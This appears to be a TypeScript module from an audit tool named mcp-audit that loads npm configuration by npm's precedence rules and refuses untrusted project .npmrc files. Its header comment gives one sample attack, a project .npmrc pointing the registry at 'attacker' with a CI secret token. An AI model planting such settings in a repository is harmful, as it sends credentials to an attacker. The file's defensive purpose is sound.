// The user's npm configuration, read the way npm reads it (as far as an audit needs): so a lookup goes
// to the registry, scoped registry, proxy and CA that `npx` itself would use, with the same token.
// Precedence, highest first: environment (`npm_config_*`), project `.npmrc`, user `.npmrc`
// (`$npm_config_userconfig` or `~/.npmrc`), global `npmrc` (`$npm_config_globalconfig` or
// `<prefix>/etc/npmrc`). Never executes anything; a file that cannot be read is skipped.
//
// The project `.npmrc` belongs to the repository being audited, which must not steer mcp-audit: left
// alone, `registry=http://attacker/` plus `//attacker/:_authToken=${CI_SECRET}` would send a CI secret
// to the attacker on the first lookup. So it is not used unless the user trusts it
// (--trust-project-npmrc, or MCP_AUDIT_TRUST_PROJECT_NPMRC=1 in the environment), a notice says what
// was ignored, and variables are never expanded from it, trusted or not.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";

export const DEFAULT_NPM_REGISTRY = "https://registry.npmjs.org/";

/** The keys passed on to npm-registry-fetch (auth keys `//host/:_authToken` etc. pass as they are). */
const PLAIN_KEYS: Record<string, string> = {
  registry: "registry",
  ca: "ca",
  cert: "cert",
  key: "key",
  "strict-ssl": "strictSSL",
  proxy: "proxy",
  "https-proxy": "httpsProxy",
  noproxy: "noProxy",
  "no-proxy": "noProxy",
  "local-address": "localAddress",
  maxsockets: "maxSockets",
};
const RETRY_KEYS: Record<string, "retries" | "factor" | "minTimeout" | "maxTimeout"> = {
  "fetch-retries": "retries",
  "fetch-retry-factor": "factor",
  "fetch-retry-mintimeout": "minTimeout",
  "fetch-retry-maxtimeout": "maxTimeout",
};
const AUTH_SUFFIXES = [":_authToken", ":_auth", ":username", ":_password", ":certfile", ":keyfile", ":always-auth"];

/** The environment variable that trusts project .npmrc files (a user-level setting, like --trust-project-npmrc). */
export const TRUST_PROJECT_NPMRC_ENV = "MCP_AUDIT_TRUST_PROJECT_NPMRC";

export interface NpmSettings {
  /** Options for npm-registry-fetch (contains credentials: never print it). */
  options: Record<string, unknown>;
  /** The default registry URL (with a trailing slash). */
  registry: string;
  /** The registry a package's metadata comes from (its scope's registry, else the default). */
  registryFor(name: string): string;
  /** Retry settings from the config (undefined where not set). */
  retry: { retries?: number; factor?: number; minTimeout?: number; maxTimeout?: number };
  /** `fetch-timeout` from the config, in ms. */
  timeout?: number;
  /** The files that were read, in precedence order (lowest first). */
  files: string[];
  /** One line each: a project .npmrc that was ignored, or settings of a trusted one left out. */
  notices: string[];
}

export interface NpmConfigInput {
  /** Where npm would run: its project `.npmrc` is looked for from here up. */
  cwd: string;
  env: NodeJS.ProcessEnv;
  /** Home directory (default: `HOME`/`USERPROFILE` from env, else the OS's). */
  home?: string;
  /** Use the project .npmrc (default: only when MCP_AUDIT_TRUST_PROJECT_NPMRC is set to 1 or true). */
  trustProject?: boolean;
}

type Raw = Map<string, string | string[]>;

/**
 * `key = value`, `key[] = value`, `;`/`#` comments, quoted values, `${VAR}` from the environment.
 * Without `env` (a project file) nothing is expanded: a line naming a variable is left out, and
 * `onUnexpanded` hears its key.
 */
export function parseNpmrc(text: string, env: NodeJS.ProcessEnv | undefined, onUnexpanded?: (key: string) => void): Raw {
  const out: Raw = new Map();
  for (const rawLine of text.split(/\r?\n/)) {
    const line = rawLine.trim();
    if (line === "" || line.startsWith(";") || line.startsWith("#") || line.startsWith("[")) continue;
    const eq = line.indexOf("=");
    if (eq === -1) continue;
    let key = line.slice(0, eq).trim();
    let value = line.slice(eq + 1).trim();
    if (/^".*"$/.test(value) || /^'.*'$/.test(value)) value = value.slice(1, -1);
    if (env === undefined) {
      if (/\$\{/.test(key) || /\$\{/.test(value)) {
        onUnexpanded?.(key);
        continue;
      }
      setValue(out, key, value);
      continue;
    }
    const expandedKey = expandEnv(key, env);
    const expanded = expandEnv(value, env);
    // npm refuses a value naming an unset variable; here the setting is just left out.
    if (expandedKey === undefined || expanded === undefined) continue;
    setValue(out, expandedKey, expanded);
  }
  return out;
}

function setValue(out: Raw, key: string, value: string): void {
  if (key.endsWith("[]")) {
    const name = key.slice(0, -2);
    const list = out.get(name);
    out.set(name, [...(Array.isArray(list) ? list : list === undefined ? [] : [list]), value]);
  } else {
    out.set(key, value);
  }
}

/** `${VAR}` -> its value; `${VAR?}` -> its value or ""; undefined when a required variable is unset. */
function expandEnv(text: string, env: NodeJS.ProcessEnv): string | undefined {
  let missing = false;
  const result = text.replace(/(\\*)\$\{([^${}?]+)(\?)?\}/g, (whole, slashes: string, name: string, optional?: string) => {
    if (slashes.length % 2 === 1) return whole.slice(1);
    const value = env[name];
    if (value === undefined && !optional) missing = true;
    return `${slashes}${value ?? ""}`;
  });
  return missing ? undefined : result;
}

function readIfPresent(file: string, env: NodeJS.ProcessEnv | undefined, onUnexpanded?: (key: string) => void): Raw | undefined {
  let text: string;
  try {
    text = fs.readFileSync(file, "utf8");
  } catch {
    return undefined;
  }
  return parseNpmrc(text, env, onUnexpanded);
}

/** What a setting controls, in words for the notice (the key itself may come from a hostile file). */
function settingKind(key: string): string | undefined {
  if (key === "registry") return "the registry";
  if (/^@[^/:]+:registry$/.test(key)) return "scoped registries";
  if (key.startsWith("//") && AUTH_SUFFIXES.some((s) => key.endsWith(s))) return "credentials";
  if (key === "proxy" || key === "https-proxy" || key === "noproxy" || key === "no-proxy") return "a proxy";
  if (key === "ca" || key === "cafile" || key === "cert" || key === "key" || key === "strict-ssl") return "TLS settings";
  if (key in PLAIN_KEYS || key in RETRY_KEYS || key === "fetch-timeout") return "network settings";
  return undefined;
}

function kindsOf(keys: Iterable<string>): string[] {
  const order = ["the registry", "scoped registries", "credentials", "a proxy", "TLS settings", "network settings"];
  const kinds = new Set<string>();
  for (const key of keys) {
    const kind = settingKind(key.endsWith("[]") ? key.slice(0, -2) : key);
    if (kind) kinds.add(kind);
  }
  return order.filter((k) => kinds.has(k));
}

function andList(items: readonly string[]): string {
  return items.length <= 1 ? (items[0] ?? "") : `${items.slice(0, -1).join(", ")} and ${items[items.length - 1]}`;
}

function isTruthy(value: string | undefined): boolean {
  return value !== undefined && /^(1|true|yes|on)$/i.test(value.trim());
}

/** npm's "local prefix": the nearest folder holding package.json or node_modules, else cwd. */
function localPrefix(cwd: string): string {
  let dir = path.resolve(cwd);
  for (;;) {
    if (fs.existsSync(path.join(dir, "package.json")) || fs.existsSync(path.join(dir, "node_modules"))) return dir;
    const parent = path.dirname(dir);
    if (parent === dir) return path.resolve(cwd);
    dir = parent;
  }
}

function envConfig(env: NodeJS.ProcessEnv): Raw {
  const out: Raw = new Map();
  for (const [name, value] of Object.entries(env)) {
    if (value === undefined || !/^npm_config_/i.test(name)) continue;
    // npm_config_https_proxy -> https-proxy; npm_config_@scope:registry keeps its spelling.
    const key = name.slice("npm_config_".length);
    out.set(key.startsWith("//") || key.startsWith("@") ? key : key.toLowerCase().replace(/_/g, "-"), value);
  }
  return out;
}

function getEnv(env: NodeJS.ProcessEnv, ...names: string[]): string | undefined {
  for (const n of names) if (env[n] !== undefined && env[n] !== "") return env[n];
  return undefined;
}

export function loadNpmSettings(input: NpmConfigInput): NpmSettings {
  const { env } = input;
  const home = input.home ?? getEnv(env, "HOME", "USERPROFILE") ?? os.homedir();
  const fromEnv = envConfig(env);
  const at = (key: string) => {
    const v = fromEnv.get(key);
    return typeof v === "string" ? v : undefined;
  };
  const prefix = at("prefix") ?? (process.platform === "win32" ? path.dirname(process.execPath) : path.dirname(path.dirname(process.execPath)));
  const globalFile = at("globalconfig") ?? path.join(prefix, "etc", "npmrc");
  const userFile = at("userconfig") ?? path.join(home, ".npmrc");
  const projectFile = path.join(localPrefix(input.cwd), ".npmrc");
  const trustProject = input.trustProject ?? isTruthy(env[TRUST_PROJECT_NPMRC_ENV]);

  const layers: Raw[] = [];
  const files: string[] = [];
  const notices: string[] = [];
  // The user's own files (global, user) may use ${VAR}: the user wrote them for this machine.
  for (const file of [globalFile, userFile]) {
    if (files.includes(file)) continue;
    const raw = readIfPresent(file, env);
    if (raw) {
      layers.push(raw);
      files.push(file);
    }
  }
  if (!files.includes(projectFile) && projectFile !== globalFile && projectFile !== userFile) {
    const shown = shownPath(projectFile, input.cwd);
    const unexpanded: string[] = [];
    const raw = readIfPresent(projectFile, undefined, (key) => unexpanded.push(key));
    if (raw && trustProject) {
      layers.push(raw);
      files.push(projectFile);
      const kinds = kindsOf(unexpanded);
      if (kinds.length > 0) {
        notices.push(`${shown} (trusted) names environment variables, which are never expanded from a project .npmrc: its ${andList(kinds)} lines that use them were left out (set them in your user .npmrc or npm_config_* variables)`);
      }
    } else if (raw) {
      const kinds = kindsOf([...raw.keys(), ...unexpanded]);
      if (kinds.length > 0) {
        notices.push(`ignored ${andList(kinds)} set in the project's ${shown}: a scanned repository does not choose where mcp-audit connects or what it sends; your user and global npm config were used (trust the project's .npmrc with --trust-project-npmrc or ${TRUST_PROJECT_NPMRC_ENV}=1)`);
      }
    }
  }
  // npm's defaults for the proxy settings come from the usual environment variables.
  const proxyDefaults: Raw = new Map();
  const httpsProxy = getEnv(env, "HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy");
  const httpProxy = getEnv(env, "HTTP_PROXY", "http_proxy");
  const noProxy = getEnv(env, "NO_PROXY", "no_proxy");
  if (httpsProxy) proxyDefaults.set("https-proxy", httpsProxy);
  if (httpProxy) proxyDefaults.set("proxy", httpProxy);
  if (noProxy) proxyDefaults.set("noproxy", noProxy);

  const merged: Raw = new Map();
  for (const layer of [proxyDefaults, ...layers, fromEnv]) for (const [k, v] of layer) merged.set(k, v);

  const options: Record<string, unknown> = {};
  const retry: NpmSettings["retry"] = {};
  let timeout: number | undefined;
  const str = (v: string | string[]) => (Array.isArray(v) ? v[v.length - 1]! : v);
  for (const [key, value] of merged) {
    if (key === "cafile") {
      // An explicit `ca` wins over a cafile (npm's rule). npm splits the file into certificates;
      // node accepts the bundle as it is.
      try {
        options.ca ??= fs.readFileSync(path.resolve(home, str(value).replace(/^~(?=\/|\\|$)/, home)), "utf8");
      } catch {
        /* an unreadable cafile: the connection then fails with a certificate error, reported as such */
      }
      continue;
    }
    if (key in PLAIN_KEYS) {
      const target = PLAIN_KEYS[key]!;
      if (key === "ca") options.ca = Array.isArray(value) ? value : [value];
      else if (key === "strict-ssl") options.strictSSL = str(value) !== "false";
      else if (key === "maxsockets") options.maxSockets = Number(str(value)) || undefined;
      else options[target] = str(value);
      continue;
    }
    if (key in RETRY_KEYS) {
      const n = Number(str(value));
      if (Number.isFinite(n) && n >= 0) retry[RETRY_KEYS[key]!] = n;
      continue;
    }
    if (key === "fetch-timeout") {
      const n = Number(str(value));
      if (Number.isFinite(n) && n > 0) timeout = n;
      continue;
    }
    if (/^@[^/:]+:registry$/.test(key) || (key.startsWith("//") && AUTH_SUFFIXES.some((s) => key.endsWith(s)))) {
      options[key] = str(value);
    }
  }
  const registry = withSlash(typeof options.registry === "string" && options.registry !== "" ? options.registry : DEFAULT_NPM_REGISTRY);
  options.registry = registry;
  for (const key of Object.keys(options)) if (/^@[^/:]+:registry$/.test(key)) options[key] = withSlash(String(options[key]));

  return {
    options,
    registry,
    registryFor(name) {
      const scope = /^(@[^/]+)\//.exec(name)?.[1];
      const scoped = scope ? options[`${scope}:registry`] : undefined;
      return typeof scoped === "string" ? scoped : registry;
    },
    retry,
    ...(timeout !== undefined ? { timeout } : {}),
    files,
    notices,
  };
}

/** A file as the notice names it: relative to where mcp-audit runs when inside it. */
function shownPath(file: string, cwd: string): string {
  const rel = path.relative(path.resolve(cwd), file);
  return (rel === "" || rel.startsWith("..") || path.isAbsolute(rel) ? file : rel).split(path.sep).join("/");
}

function withSlash(url: string): string {
  return url.endsWith("/") ? url : `${url}/`;
}

/** A registry URL as shown to the user: host and path, never credentials (`registry.npmjs.org`). */
export function registryLabel(url: string): string {
  try {
    const u = new URL(url);
    const pathPart = u.pathname.replace(/\/+$/, "");
    return `${u.host}${pathPart}`;
  } catch {
    return "the configured registry";
  }
}
